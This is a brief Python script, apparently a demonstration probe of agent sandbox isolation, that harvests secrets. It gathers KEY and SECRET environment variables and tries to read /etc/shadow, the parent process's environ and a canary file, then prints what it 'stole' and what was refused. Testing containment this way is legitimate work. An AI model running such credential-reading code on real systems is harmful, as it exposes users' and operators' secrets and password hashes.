"""Look for keys: in the environment, in files next to other people's secrets, in the memory of the agent."""

import glob
import os
from pathlib import Path

found = [f"environment {name}" for name in os.environ if "KEY" in name or "SECRET" in name]
wanted = [os.environ.get("DEMO_CANARY_FILE", ""), "/etc/shadow", *glob.glob(f"/proc/{os.getppid()}/environ")]
refused = []
for name in filter(None, wanted):
    try:
        found.append(f"{name}: {Path(name).read_text(errors='replace')[:60]!r}")
    except OSError as error:
        refused.append(f"{Path(name).name}: {error.strerror}")
print("stolen:", found or "nothing")
print("refused:", "; ".join(refused))
